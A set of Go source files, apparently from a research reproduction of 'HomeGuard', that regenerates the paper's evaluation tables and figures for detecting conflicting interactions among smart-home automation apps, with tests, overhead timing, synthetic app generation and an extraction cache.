	w.Close()
	st := w.Stats()
	if st.Published != goroutines*perG {
		t.Errorf("published = %d, want %d", st.Published, goroutines*perG)
	}
	if st.Written+st.Dropped != st.Published {
		t.Errorf("written %d + dropped %d != published %d", st.Written, st.Dropped, st.Published)
	}
	if got := uint64(len(sink.snapshot())); got != st.Written-st.SinkErrors {
		t.Errorf("sink holds %d events, stats say %d written", got, st.Written)
	}
}
