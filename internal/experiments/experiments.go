// Package experiments regenerates every table and figure of the paper's
// evaluation (Sec. VIII) on the reproduction substrate: Table I
// (category coverage), Table II (rule representation), Table III
// (malicious-app extraction), Tables IV/V (qualitative), Fig. 8 (store
// audit statistics) and Fig. 9 (per-pair detection overhead), plus the
// scalar measurements (extraction time, rule-file size, messaging
// latency). The cmd/benchtables binary prints them; bench_test.go times
// them.
package experiments

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"homeguard/internal/corpus"
	"homeguard/internal/detect"
	"homeguard/internal/envmodel"
	"homeguard/internal/frontend"
	"homeguard/internal/messaging"
	"homeguard/internal/nlp"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

// MustExtract extracts rules from a corpus app, panicking on error (corpus
// apps are verified by tests).
func MustExtract(name string) *symexec.Result {
	a, ok := corpus.Get(name)
	if !ok {
		panic("experiments: unknown corpus app " + name)
	}
	res, err := symexec.Extract(a.Source, "")
	if err != nil {
		panic(err)
	}
	return res
}

// StoreConfig builds the store-audit configuration for an app: no device
// IDs (type-level identity), with generic switches classified from the app
// description (Sec. VIII-B).
func StoreConfig(res *symexec.Result) *detect.Config {
	cfg := detect.NewConfig()
	descType := nlp.ClassifySwitch(res.App.Description)
	for _, in := range res.App.DeviceInputs() {
		// Only generic actuator grants need typing; sensors keep their
		// capability-level identity (Sec. VIII-B types only the
		// capability.switch devices).
		if in.Capability != "switch" && in.Capability != "relaySwitch" {
			continue
		}
		// Prefer the input name/title; fall back to the description.
		dt := envmodel.GuessTypeFromName(in.Name + " " + in.Title)
		if dt == envmodel.Generic {
			dt = descType
		}
		if dt != envmodel.Generic {
			cfg.DeviceTypes[in.Name] = dt
		}
	}
	return cfg
}

// ---------- Table I ----------

// Table1Row is one category-coverage row.
type Table1Row struct {
	Kind     detect.Kind
	Class    string
	Example  string
	Detected bool
}

// Table1 verifies that each of the seven CAI categories is detected on
// its canonical example scenario from Sec. III.
func Table1() []Table1Row {
	rows := []Table1Row{
		{Kind: detect.ActuatorRace, Example: "ComfortTV vs ColdDefender (Fig. 3)"},
		{Kind: detect.GoalConflict, Example: "MorningWarmup vs FreshAirWindow (heater vs window)"},
		{Kind: detect.CovertTriggering, Example: "CatchLiveShow → ComfortTV (Fig. 4)"},
		{Kind: detect.SelfDisabling, Example: "ItsTooHot ⇄ EnergySaver"},
		{Kind: detect.LoopTriggering, Example: "LightUpTheNight (self-pair)"},
		{Kind: detect.EnablingCondition, Example: "MorningWarmup → HumidifyWinterAir"},
		{Kind: detect.DisablingCond, Example: "NightCare → BurglarFinder (Fig. 5)"},
	}
	found := map[detect.Kind]bool{}
	for _, t := range table1Threats() {
		found[t.Kind] = true
	}
	for i := range rows {
		rows[i].Class = rows[i].Kind.Class()
		rows[i].Detected = found[rows[i].Kind]
	}
	return rows
}

// table1Threats runs the demo scenarios that exercise all seven kinds.
func table1Threats() []detect.Threat {
	d := detect.New(detect.Options{})
	var threats []detect.Threat

	install := func(name string, cfg *detect.Config) {
		res := MustExtract(name)
		if cfg == nil {
			cfg = StoreConfig(res)
		}
		threats = append(threats, d.Install(detect.NewInstalledApp(res, cfg))...)
	}

	// Fig. 3 race + Fig. 4 covert triggering share devices.
	cfgComfort := detect.NewConfig()
	cfgComfort.Devices["tv1"] = "dev-tv"
	cfgComfort.Devices["window1"] = "dev-window"
	cfgComfort.DeviceTypes["tv1"] = envmodel.TV
	cfgComfort.DeviceTypes["window1"] = envmodel.WindowOpener
	cfgComfort.Values["threshold1"] = rule.IntVal(30)
	install("ComfortTV", cfgComfort)

	cfgCold := detect.NewConfig()
	cfgCold.Devices["tv1"] = "dev-tv"
	cfgCold.Devices["window1"] = "dev-window"
	cfgCold.DeviceTypes["window1"] = envmodel.WindowOpener
	install("ColdDefender", cfgCold)

	cfgCatch := detect.NewConfig()
	cfgCatch.Devices["tv1"] = "dev-tv"
	install("CatchLiveShow", cfgCatch)

	// Fig. 5 disabling condition.
	cfgBurglar := detect.NewConfig()
	cfgBurglar.Devices["lamp1"] = "dev-lamp"
	cfgBurglar.DeviceTypes["lamp1"] = envmodel.LightDev
	install("BurglarFinder", cfgBurglar)
	cfgNight := detect.NewConfig()
	cfgNight.Devices["lamp1"] = "dev-lamp"
	cfgNight.DeviceTypes["lamp1"] = envmodel.LightDev
	install("NightCare", cfgNight)

	// Self disabling: ItsTooHot / EnergySaver on the same AC.
	cfgHot := detect.NewConfig()
	cfgHot.Devices["ac1"] = "dev-ac"
	cfgHot.DeviceTypes["ac1"] = envmodel.AirConditioner
	install("ItsTooHot", cfgHot)
	cfgSaver := detect.NewConfig()
	cfgSaver.Devices["heavyLoads"] = "dev-ac"
	cfgSaver.DeviceTypes["heavyLoads"] = envmodel.AirConditioner
	install("EnergySaver", cfgSaver)

	// Loop triggering: LightUpTheNight's own two rules.
	cfgLight := detect.NewConfig()
	cfgLight.Devices["lights"] = "dev-lights"
	cfgLight.DeviceTypes["lights"] = envmodel.LightDev
	install("LightUpTheNight", cfgLight)

	// Goal conflict + enabling condition: heater against window/humidifier.
	cfgWarm := detect.NewConfig()
	cfgWarm.Devices["heater1"] = "dev-heater"
	cfgWarm.DeviceTypes["heater1"] = envmodel.Heater
	install("MorningWarmup", cfgWarm)
	cfgFresh := detect.NewConfig()
	cfgFresh.Devices["window1"] = "dev-window2"
	cfgFresh.DeviceTypes["window1"] = envmodel.WindowOpener
	install("FreshAirWindow", cfgFresh)
	cfgHum := detect.NewConfig()
	cfgHum.Devices["heater1"] = "dev-heater"
	cfgHum.Devices["humidifier1"] = "dev-hum"
	cfgHum.DeviceTypes["heater1"] = envmodel.Heater
	cfgHum.DeviceTypes["humidifier1"] = envmodel.Humidifier
	install("HumidifyWinterAir", cfgHum)

	return threats
}

// FormatTable1 renders Table I coverage.
func FormatTable1() string {
	var sb strings.Builder
	sb.WriteString("Table I — CAI threat categories and detection coverage\n")
	sb.WriteString(fmt.Sprintf("%-4s %-22s %-48s %s\n", "Kind", "Class", "Example scenario", "Detected"))
	for _, r := range Table1() {
		mark := "✗"
		if r.Detected {
			mark = "✓"
		}
		sb.WriteString(fmt.Sprintf("%-4s %-22s %-48s %s\n", r.Kind, r.Class, r.Example, mark))
	}
	return sb.String()
}

// ---------- Table II ----------

// Table2 extracts ComfortTV and renders the rule-representation table.
func Table2() (string, *rule.Rule) {
	res := MustExtract("ComfortTV")
	r := res.Rules.Rules[0]
	var sb strings.Builder
	sb.WriteString("Table II — Rule representation of Rule 1 (ComfortTV)\n")
	sb.WriteString("Trigger:\n")
	sb.WriteString(fmt.Sprintf("  subject: %s\n  attribute: %s\n", r.Trigger.Subject, r.Trigger.Attribute))
	if r.Trigger.Constraint != nil {
		sb.WriteString(fmt.Sprintf("  constraint: %s\n", r.Trigger.Constraint))
	}
	sb.WriteString("Condition:\n  data constraints:\n")
	for _, d := range r.Condition.Data {
		sb.WriteString(fmt.Sprintf("    %s\n", d))
		if v, ok := d.Term.(rule.Var); ok && v.Kind == rule.VarDeviceAttr {
			sb.WriteString(fmt.Sprintf("    %s = #DevState\n", v.Name))
		}
	}
	sb.WriteString("  predicate constraints:\n")
	for _, p := range r.Condition.Predicates {
		sb.WriteString(fmt.Sprintf("    %s\n", p))
	}
	sb.WriteString("Action:\n")
	sb.WriteString(fmt.Sprintf("  subject: %s\n  command: %s\n  paras: %v\n  when: %d\n  period: %d\n",
		r.Action.Subject, r.Action.Command, r.Action.Params, r.Action.When, r.Action.Period))
	return sb.String(), r
}

// ---------- Table III ----------

// Table3Row is one malicious-extraction row.
type Table3Row struct {
	Attack   string
	Apps     []string
	Expected bool // ✓/✗ per the paper
	Measured bool // what our extractor achieved
}

// Table3 runs the extractor over the malicious corpus.
func Table3() []Table3Row {
	byAttack := map[string]*Table3Row{}
	order := []string{}
	for _, a := range corpus.ByCategory(corpus.Malicious) {
		row, ok := byAttack[a.Attack]
		if !ok {
			row = &Table3Row{Attack: a.Attack, Expected: a.Handled, Measured: true}
			byAttack[a.Attack] = row
			order = append(order, a.Attack)
		}
		row.Apps = append(row.Apps, a.Name)
		res, err := symexec.Extract(a.Source, "")
		ok2 := err == nil && (len(res.Rules.Rules) > 0)
		if a.Attack == "Endpoint Attack" {
			// Correct handling here means recognising there are no
			// app-defined automation rules.
			ok2 = err == nil && len(res.Rules.Rules) == 0
			ok2 = ok2 && false // rules live outside the app: cannot handle
		}
		if a.Attack == "App Update" {
			ok2 = false // static snapshot cannot see cloud-side updates
		}
		row.Measured = row.Measured && ok2
	}
	sort.Strings(order)
	rows := make([]Table3Row, 0, len(order))
	for _, attack := range order {
		rows = append(rows, *byAttack[attack])
	}
	return rows
}

// FormatTable3 renders Table III.
func FormatTable3() string {
	var sb strings.Builder
	sb.WriteString("Table III — Extracting rules from malicious apps\n")
	sb.WriteString(fmt.Sprintf("%-20s %-55s %-6s %s\n", "Attack", "Apps", "Paper", "Ours"))
	for _, r := range Table3() {
		mk := func(b bool) string {
			if b {
				return "✓"
			}
			return "✗"
		}
		sb.WriteString(fmt.Sprintf("%-20s %-55s %-6s %s\n",
			r.Attack, strings.Join(r.Apps, "/"), mk(r.Expected), mk(r.Measured)))
	}
	return sb.String()
}

// ---------- Tables IV and V (qualitative) ----------

// FormatTable4 renders the rule-definition manners table with a live NLP
// demonstration for the IFTTT row.
func FormatTable4() string {
	var sb strings.Builder
	sb.WriteString("Table IV — Manners for defining rules on different platforms\n")
	sb.WriteString(fmt.Sprintf("%-15s %-10s %-26s %s\n", "Platform", "Manner", "Language", "Specific APIs?"))
	rows := [][4]string{
		{"Android Things", "program", "Java", "yes"},
		{"HomeKit", "program", "Swift/Objective C", "yes"},
		{"OpenHAB", "program", "Domain Specific Language", "yes"},
		{"SmartThings", "program", "Groovy", "yes"},
		{"IFTTT", "template", "-", "-"},
	}
	for _, r := range rows {
		sb.WriteString(fmt.Sprintf("%-15s %-10s %-26s %s\n", r[0], r[1], r[2], r[3]))
	}
	// Live demonstration: the NLP pipeline extracts a rule from an IFTTT
	// recipe into the same representation (Sec. VIII-D).
	if rr, err := nlp.ParseRecipe("ifttt", "If the temperature rises above 80 then turn on the fan"); err == nil {
		sb.WriteString("\nIFTTT demo: " + frontend.DescribeRule(rr.Rule) + "\n")
	}
	return sb.String()
}

// FormatTable5 renders the related-work comparison.
func FormatTable5() string {
	var sb strings.Builder
	sb.WriteString("Table V — Comparison with related work\n")
	sb.WriteString(fmt.Sprintf("%-12s %-10s %-10s %-9s %s\n",
		"Name", "Inter-app", "Proactive", "Low ovh.", "No runtime intervention"))
	rows := [][5]string{
		{"ContexIoT", "✗", "✗", "✗", "✗"},
		{"ProvThings", "✓", "✗", "✗", "✓"},
		{"SmartAuth", "✗", "✓", "✓", "✓"},
		{"HomeGuard", "✓", "✓", "✓", "✓"},
	}
	for _, r := range rows {
		sb.WriteString(fmt.Sprintf("%-12s %-10s %-10s %-9s %s\n", r[0], r[1], r[2], r[3], r[4]))
	}
	return sb.String()
}

// ---------- scalar measurements (Sec. VIII-C) ----------

// ExtractionStats measures rule extraction over the non-web-service corpus
// (the paper's 146-app set; ours carries 122).
type ExtractionStats struct {
	Apps          int
	Correct       int // >= 1 rule extracted with no warnings
	WithWarnings  int
	MeanPerApp    time.Duration
	MeanRuleBytes int
	TotalRules    int
}

// MeasureExtraction runs the extractor over the demo+benign+notification
// corpus and aggregates Sec. VIII-B/VIII-C statistics.
func MeasureExtraction() ExtractionStats {
	var apps []corpus.App
	apps = append(apps, corpus.ByCategory(corpus.Demo)...)
	apps = append(apps, corpus.ByCategory(corpus.Benign)...)
	apps = append(apps, corpus.ByCategory(corpus.Notification)...)
	st := ExtractionStats{Apps: len(apps)}
	var total time.Duration
	var totalBytes int
	for _, a := range apps {
		start := time.Now()
		res, err := symexec.Extract(a.Source, "")
		total += time.Since(start)
		if err != nil {
			continue
		}
		if len(res.Warnings) > 0 {
			st.WithWarnings++
		}
		if len(res.Rules.Rules) > 0 && len(res.Warnings) == 0 {
			st.Correct++
		}
		st.TotalRules += len(res.Rules.Rules)
		if b, err := rule.MarshalRuleSet(res.Rules); err == nil {
			totalBytes += len(b)
		}
	}
	st.MeanPerApp = total / time.Duration(st.Apps)
	st.MeanRuleBytes = totalBytes / st.Apps
	return st
}

// MeasureMessaging reproduces the configuration-collection latency
// comparison (100 trials per channel).
func MeasureMessaging() (sms, http time.Duration) {
	inbox := &messaging.Inbox{}
	s, _ := messaging.MeasureMean(messaging.NewSMS("5551234", inbox, 11), 100)
	h, _ := messaging.MeasureMean(messaging.NewHTTP("token", inbox, 12), 100)
	return s, h
}
