package experiments

import (
	"strings"
	"testing"

	"homeguard/internal/detect"
)

func TestTable1AllCategoriesDetected(t *testing.T) {
	for _, row := range Table1() {
		if !row.Detected {
			t.Errorf("category %s (%s) not detected on %s", row.Kind, row.Class, row.Example)
		}
	}
}

func TestTable2Rendering(t *testing.T) {
	text, r := Table2()
	for _, frag := range []string{
		"subject: tv1", "attribute: switch", `tv1.switch == "on"`,
		"t = tSensor.temperature", "#DevState",
		"subject: window1", "command: on", "when: 0", "period: 0",
	} {
		if !strings.Contains(text, frag) {
			t.Errorf("Table II missing %q:\n%s", frag, text)
		}
	}
	if r.App != "ComfortTV" {
		t.Errorf("rule app = %s", r.App)
	}
}

func TestTable3MatchesPaper(t *testing.T) {
	rows := Table3()
	if len(rows) != 10 {
		t.Fatalf("Table III rows = %d, want 10 attack types", len(rows))
	}
	for _, r := range rows {
		if r.Expected != r.Measured {
			t.Errorf("attack %s: paper=%v ours=%v", r.Attack, r.Expected, r.Measured)
		}
	}
}

func TestTables4And5Render(t *testing.T) {
	t4 := FormatTable4()
	if !strings.Contains(t4, "IFTTT") || !strings.Contains(t4, "Groovy") {
		t.Errorf("Table IV:\n%s", t4)
	}
	if !strings.Contains(t4, "IFTTT demo:") {
		t.Errorf("Table IV should include the live NLP extraction demo:\n%s", t4)
	}
	t5 := FormatTable5()
	if !strings.Contains(t5, "HomeGuard") || !strings.Contains(t5, "ContexIoT") {
		t.Errorf("Table V:\n%s", t5)
	}
}

func TestFig8ShapeMatchesPaper(t *testing.T) {
	r := Fig8()
	if r.Apps != 90 {
		t.Fatalf("apps = %d, want 90", r.Apps)
	}
	if r.TotalThreats == 0 {
		t.Fatal("the store audit should find threats (the paper found many)")
	}
	// Shape: switch- and mode-controlling apps dominate the findings.
	sum := func(g Group) int {
		n := 0
		for _, c := range r.ThreatCounts[g] {
			n += c
		}
		return n
	}
	if sum(GroupSwitch) == 0 {
		t.Error("Switch group should have threat instances")
	}
	if sum(GroupMode) == 0 {
		t.Error("Mode group should have threat instances")
	}
	// Every category should appear somewhere in a 90-app audit.
	for _, k := range detect.AllKinds {
		total := 0
		for _, g := range Groups {
			total += r.ThreatCounts[g][k]
		}
		if total == 0 {
			t.Errorf("kind %s never detected across the store corpus", k)
		}
	}
	out := FormatFig8(r)
	if !strings.Contains(out, "Switch") || !strings.Contains(out, "█") {
		t.Errorf("Fig. 8 rendering:\n%s", out)
	}
}

func TestFig9ShapeMatchesPaper(t *testing.T) {
	r := Fig9()
	// The paper: constraint solving is the most time-consuming operation;
	// reuse lowers the total.
	var solve, filter int64
	for _, row := range r.Rows {
		solve += int64(row.Solve)
		filter += int64(row.Filter)
	}
	if solve == 0 {
		t.Fatal("no solving time recorded")
	}
	if r.NoReuse < r.Total {
		// Timing noise can flip this on tiny totals; assert only the cache
		// actually worked.
		t.Logf("note: reuse total %v vs no-reuse %v (timing noise)", r.Total, r.NoReuse)
	}
	if r.CacheHits == 0 {
		t.Error("expected solver-result reuse hits")
	}
	out := FormatFig9(r)
	if !strings.Contains(out, "reuses earlier solving result") {
		t.Errorf("Fig. 9 rendering:\n%s", out)
	}
}

func TestMeasureExtraction(t *testing.T) {
	st := MeasureExtraction()
	if st.Apps < 120 {
		t.Errorf("apps measured = %d, want >= 120 (paper: 146)", st.Apps)
	}
	// The paper reports 124/146 (85%) handled; ours should be >= that rate.
	if float64(st.Correct)/float64(st.Apps) < 0.85 {
		t.Errorf("correct = %d/%d, want >= 85%%", st.Correct, st.Apps)
	}
	if st.MeanPerApp <= 0 {
		t.Error("mean extraction time not measured")
	}
	if st.MeanRuleBytes <= 0 {
		t.Error("mean rule-file size not measured")
	}
	if st.TotalRules < st.Apps {
		t.Errorf("total rules = %d across %d apps — too few", st.TotalRules, st.Apps)
	}
}

func TestMeasureMessagingShape(t *testing.T) {
	sms, http := MeasureMessaging()
	if http >= sms {
		t.Errorf("HTTP (%v) should be faster than SMS (%v) — the paper's shape", http, sms)
	}
}

func TestStoreConfigClassifiesSwitches(t *testing.T) {
	res := MustExtract("ItsTooHot")
	cfg := StoreConfig(res)
	if len(cfg.DeviceTypes) == 0 {
		t.Error("ItsTooHot's ac1 switch should be classified (air conditioner)")
	}
}
