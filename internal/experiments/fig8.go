package experiments

import (
	"fmt"
	"sort"
	"strings"

	"homeguard/internal/audit"
	"homeguard/internal/corpus"
	"homeguard/internal/detect"
	"homeguard/internal/symexec"
)

// Group is the Fig. 8 app grouping: apps controlling a generic
// capability.switch, apps controlling the location mode, and the rest.
type Group string

// Fig. 8 groups.
const (
	GroupSwitch Group = "Switch"
	GroupMode   Group = "Mode"
	GroupOthers Group = "Others"
)

// Groups lists the Fig. 8 groups in display order.
var Groups = []Group{GroupSwitch, GroupMode, GroupOthers}

// Fig8Result aggregates the store audit.
type Fig8Result struct {
	Apps         int
	Pairs        int
	ThreatCounts map[Group]map[detect.Kind]int
	TotalThreats int
	// AppsWithThreats counts distinct apps involved in at least one threat.
	AppsWithThreats int
	Stats           detect.Stats
}

// ruleGroup classifies one rule by what its action controls.
func ruleGroup(app *detect.InstalledApp, r *ruleActionInfo) Group {
	if r.command == "setLocationMode" {
		return GroupMode
	}
	if r.capability == "switch" {
		return GroupSwitch
	}
	return GroupOthers
}

type ruleActionInfo struct {
	command    string
	capability string
}

// Fig8 runs pairwise CAI detection over the 90-app store corpus using
// type-level device identity and NLP-classified switch types (Sec.
// VIII-B), returning the per-group, per-kind threat statistics. The
// pairwise sweep runs on the parallel audit engine (internal/audit) and
// scales with GOMAXPROCS; Fig8Workers selects a fixed worker count for
// serial-contrast benchmarking.
func Fig8() *Fig8Result { return Fig8Workers(0) }

// Fig8Workers is Fig8 with an explicit audit worker count (0 = all cores).
// The engine's findings are byte-identical to the serial install sequence
// at any worker count, so the figure's numbers don't depend on it.
func Fig8Workers(workers int) *Fig8Result {
	apps := corpus.StoreAudit()
	inputs := make([]audit.App, 0, len(apps))
	for _, a := range apps {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			continue
		}
		inputs = append(inputs, audit.App{Res: res, Config: StoreConfig(res)})
	}
	ar := audit.Run(inputs, audit.Options{Workers: workers})
	installed := ar.Installed
	out := &Fig8Result{
		Apps:         len(installed),
		ThreatCounts: map[Group]map[detect.Kind]int{},
	}
	for _, g := range Groups {
		out.ThreatCounts[g] = map[detect.Kind]int{}
	}
	appsInvolved := map[string]bool{}
	allThreats := ar.Threats()
	out.Pairs = ar.Stats.PairsChecked
	for _, t := range allThreats {
		out.TotalThreats++
		appsInvolved[t.R1.App] = true
		appsInvolved[t.R2.App] = true
		g1 := groupOfThreatSide(installed, t.R1.App, t.R1.Action.Command, t.R1.Action.Capability)
		g2 := groupOfThreatSide(installed, t.R2.App, t.R2.Action.Command, t.R2.Action.Capability)
		out.ThreatCounts[g1][t.Kind]++
		if g2 != g1 {
			out.ThreatCounts[g2][t.Kind]++
		}
	}
	out.AppsWithThreats = len(appsInvolved)
	out.Stats = ar.Stats
	return out
}

func groupOfThreatSide(installed []*detect.InstalledApp, app, command, capability string) Group {
	for _, ia := range installed {
		if ia.Info.Name == app {
			return ruleGroup(ia, &ruleActionInfo{command: command, capability: capability})
		}
	}
	return GroupOthers
}

// FormatFig8 renders the Fig. 8 statistics as an ASCII table.
func FormatFig8(r *Fig8Result) string {
	var sb strings.Builder
	sb.WriteString(fmt.Sprintf(
		"Fig. 8 — Detection statistics on %d store apps (%d pairs, %d threat instances, %d apps involved)\n",
		r.Apps, r.Pairs, r.TotalThreats, r.AppsWithThreats))
	if r.Stats.PairsIndexed > 0 {
		sb.WriteString(fmt.Sprintf(
			"Candidate generation: %d app pairs from index postings, %d rule pairs never generated (of %d pruned)\n",
			r.Stats.PairsIndexed, r.Stats.PairsSkippedByIndex, r.Stats.PairsPruned))
	}
	kinds := detect.AllKinds
	sb.WriteString(fmt.Sprintf("%-8s", "Group"))
	for _, k := range kinds {
		sb.WriteString(fmt.Sprintf("%6s", k))
	}
	sb.WriteString("\n")
	for _, g := range Groups {
		sb.WriteString(fmt.Sprintf("%-8s", g))
		for _, k := range kinds {
			sb.WriteString(fmt.Sprintf("%6d", r.ThreatCounts[g][k]))
		}
		sb.WriteString("\n")
	}
	// Bar rendering per kind (total across groups), echoing the figure.
	sb.WriteString("\nThreat instances by kind:\n")
	totals := map[detect.Kind]int{}
	maxTotal := 1
	for _, g := range Groups {
		for _, k := range kinds {
			totals[k] += r.ThreatCounts[g][k]
			if totals[k] > maxTotal {
				maxTotal = totals[k]
			}
		}
	}
	for _, k := range kinds {
		bar := strings.Repeat("█", totals[k]*40/maxTotal)
		sb.WriteString(fmt.Sprintf("%4s %5d %s\n", k, totals[k], bar))
	}
	return sb.String()
}

// Fig8TopPairs returns a human-readable sample of detected threats for the
// report (sorted for determinism).
func Fig8TopPairs(r *Fig8Result, d *detect.Detector, limit int) []string {
	var out []string
	sort.Strings(out)
	if len(out) > limit {
		out = out[:limit]
	}
	return out
}
