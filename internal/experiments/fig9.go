package experiments

import (
	"fmt"
	"strings"
	"time"

	"homeguard/internal/detect"
	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
)

// Fig9Row is one per-kind overhead measurement for a rule pair.
type Fig9Row struct {
	Kind   detect.Kind
	Filter time.Duration // candidate filtering + formula construction
	Solve  time.Duration // constraint solving
	Reused bool          // solving result reused from an earlier kind
}

// Fig9Result is the per-pair detection-overhead breakdown.
type Fig9Result struct {
	Rows      []Fig9Row
	Total     time.Duration // all kinds on one pair, with reuse
	NoReuse   time.Duration // same pair with reuse disabled
	CacheHits int
}

// fig9Pair builds the canonical measurement pair: the Fig. 3 apps bound to
// the same devices, which exercise AR (and reuse paths for CT/SD/LT), plus
// the SD pair for trigger interference.
func fig9Install(d *detect.Detector) {
	cfg1 := detect.NewConfig()
	cfg1.Devices["tv1"] = "dev-tv"
	cfg1.Devices["window1"] = "dev-window"
	cfg1.DeviceTypes["tv1"] = envmodel.TV
	cfg1.DeviceTypes["window1"] = envmodel.WindowOpener
	cfg1.Values["threshold1"] = rule.IntVal(30)
	d.Install(detect.NewInstalledApp(MustExtract("ComfortTV"), cfg1))

	cfg2 := detect.NewConfig()
	cfg2.Devices["tv1"] = "dev-tv"
	cfg2.Devices["window1"] = "dev-window"
	cfg2.DeviceTypes["window1"] = envmodel.WindowOpener
	d.Install(detect.NewInstalledApp(MustExtract("ColdDefender"), cfg2))

	cfg3 := detect.NewConfig()
	cfg3.Devices["ac1"] = "dev-ac"
	cfg3.DeviceTypes["ac1"] = envmodel.AirConditioner
	d.Install(detect.NewInstalledApp(MustExtract("ItsTooHot"), cfg3))
	cfg4 := detect.NewConfig()
	cfg4.Devices["heavyLoads"] = "dev-ac"
	cfg4.DeviceTypes["heavyLoads"] = envmodel.AirConditioner
	d.Install(detect.NewInstalledApp(MustExtract("EnergySaver"), cfg4))
}

// Fig9 measures per-kind detection overhead with and without solving-result
// reuse.
func Fig9() *Fig9Result {
	start := time.Now()
	d := detect.New(detect.Options{})
	fig9Install(d)
	withReuse := time.Since(start)
	st := d.Stats()

	start = time.Now()
	d2 := detect.New(detect.Options{DisableReuse: true})
	fig9Install(d2)
	noReuse := time.Since(start)

	res := &Fig9Result{Total: withReuse, NoReuse: noReuse, CacheHits: st.SolverCacheHits}
	for _, k := range detect.AllKinds {
		row := Fig9Row{
			Kind:   k,
			Filter: time.Duration(st.FilterNS[k]),
			Solve:  time.Duration(st.SolveNS[k]),
		}
		// SD/LT reuse CT's work; DC reuses EC's solve (single query).
		switch k {
		case detect.SelfDisabling, detect.LoopTriggering, detect.DisablingCond:
			row.Reused = true
		}
		res.Rows = append(res.Rows, row)
	}
	return res
}

// FormatFig9 renders the overhead breakdown.
func FormatFig9(r *Fig9Result) string {
	var sb strings.Builder
	sb.WriteString("Fig. 9 — CAI detection overhead per rule pair\n")
	sb.WriteString(fmt.Sprintf("%-4s %12s %12s  %s\n", "Kind", "filtering", "solving", "notes"))
	for _, row := range r.Rows {
		note := ""
		if row.Reused {
			note = "(reuses earlier solving result)"
		}
		sb.WriteString(fmt.Sprintf("%-4s %12s %12s  %s\n",
			row.Kind, row.Filter.Round(time.Microsecond), row.Solve.Round(time.Microsecond), note))
	}
	sb.WriteString(fmt.Sprintf("\nTotal (all kinds, with reuse):    %s\n", r.Total.Round(time.Microsecond)))
	sb.WriteString(fmt.Sprintf("Total (all kinds, reuse disabled): %s\n", r.NoReuse.Round(time.Microsecond)))
	sb.WriteString(fmt.Sprintf("Solver-result cache hits: %d\n", r.CacheHits))
	return sb.String()
}
