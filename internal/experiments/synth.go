package experiments

import (
	"fmt"
	"math/rand"

	"homeguard/internal/audit"
	"homeguard/internal/detect"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

// SyntheticSparseApps builds n single-rule apps over a shared pool of
// devicePool lock devices, for store-audit scaling experiments where the
// channel-overlap density is a controlled parameter instead of a corpus
// accident. Each app subscribes to one random device's lock attribute
// and locks/unlocks another random device; the install config binds both
// inputs to concrete pool device IDs, so two apps share an interference
// channel exactly when their device picks collide. Locks are the one
// actuator class with no modeled environment effect (see
// envmodel.effectsTable) — a powered device class would add shared
// "prop:power"-style channels that overlap EVERY pair and destroy the
// sparse regime. The probability that a given app pair overlaps is
// ≈ 4/devicePool (either app's actuator matching either of the other's
// two devices), so devicePool 80 yields the ~5% sparse regime of the
// scaling benchmark.
//
// Results are deterministic in (n, devicePool, seed). The apps are built
// directly as extraction results — the synthetic corpus exercises the
// detection layers (index, compile, solve), not the Groovy front end.
func SyntheticSparseApps(n, devicePool int, seed int64) []audit.App {
	rng := rand.New(rand.NewSource(seed))
	out := make([]audit.App, 0, n)
	for i := 0; i < n; i++ {
		name := fmt.Sprintf("SynthApp%05d", i)
		trigDev := rng.Intn(devicePool)
		actDev := rng.Intn(devicePool)
		trigState, actCmd := "locked", "unlock"
		if rng.Intn(2) == 0 {
			trigState, actCmd = "unlocked", "lock"
		}
		tr := rule.Trigger{Subject: "sensor1", Attribute: "lock", Capability: "lock"}
		r := &rule.Rule{
			App:     name,
			Trigger: tr,
			Action:  rule.Action{Subject: "actuator1", Capability: "lock", Command: actCmd},
		}
		r.Trigger.Constraint = rule.Cmp{
			Op: rule.OpEq,
			L:  rule.Var{Name: tr.EventVar(), Kind: rule.VarEvent, Type: rule.TypeString},
			R:  rule.StrVal(trigState),
		}
		rs := &rule.RuleSet{App: name, Rules: []*rule.Rule{r}}
		rs.NumberRules()
		res := &symexec.Result{
			App: symexec.AppInfo{
				Name: name,
				Inputs: []symexec.InputDecl{
					{Name: "sensor1", Type: "capability.lock", Capability: "lock"},
					{Name: "actuator1", Type: "capability.lock", Capability: "lock"},
				},
			},
			Rules: rs,
			Paths: 1,
		}
		cfg := detect.NewConfig()
		cfg.Devices["sensor1"] = fmt.Sprintf("dev-%04d", trigDev)
		cfg.Devices["actuator1"] = fmt.Sprintf("dev-%04d", actDev)
		out = append(out, audit.App{Res: res, Config: cfg})
	}
	return out
}
