// Package extractcache is a content-addressed cache of rule-extraction
// results shared across homes. A SmartApp popular on the app store is
// installed into thousands of homes; its source is identical everywhere,
// so its symbolic execution is too. The cache keys extraction output by
// the SHA-256 of the source (plus the name override) so the fleet runs
// symexec once per distinct app, not once per install.
//
// Concurrent requests for the same uncached source are deduplicated with
// a singleflight discipline: the first caller executes, later callers
// block on the in-flight entry and share its result. This matters at
// fleet cold-start, when many homes install the same hot app at once.
//
// A cached *symexec.Result is immutable after extraction (see the Result
// documentation in internal/symexec) and is therefore handed out to every
// caller without copying; callers must treat it as read-only.
package extractcache

import (
	"crypto/sha256"
	"fmt"
	"sync"

	"homeguard/internal/symexec"
)

// Key is the content address of one extraction: SHA-256 over the app
// source and the name override.
type Key [sha256.Size]byte

// KeyOf computes the content address for a source/name pair.
func KeyOf(src, appName string) Key {
	h := sha256.New()
	h.Write([]byte(src))
	h.Write([]byte{0}) // domain-separate source from name override
	h.Write([]byte(appName))
	var k Key
	h.Sum(k[:0])
	return k
}

// entry is one cache slot. done is closed by the extracting goroutine
// once res/err are set; waiters block on it (singleflight).
type entry struct {
	done chan struct{}
	res  *symexec.Result
	err  error
}

// Stats are cumulative cache counters. HitRate is derived.
type Stats struct {
	// Lookups counts Extract calls.
	Lookups uint64
	// Hits counts lookups served from a completed or in-flight entry
	// (an in-flight join still means the caller did no symexec work).
	Hits uint64
	// Misses counts lookups that ran symbolic execution themselves.
	Misses uint64
	// Evictions counts completed entries dropped by the entry bound
	// (NewBounded); nonzero means the live catalog outgrew the cache and
	// some apps are being re-extracted.
	Evictions uint64
	// Entries is the current number of cached results.
	Entries int
}

// HitRate returns Hits/Lookups, or 0 before any lookup.
func (s Stats) HitRate() float64 {
	if s.Lookups == 0 {
		return 0
	}
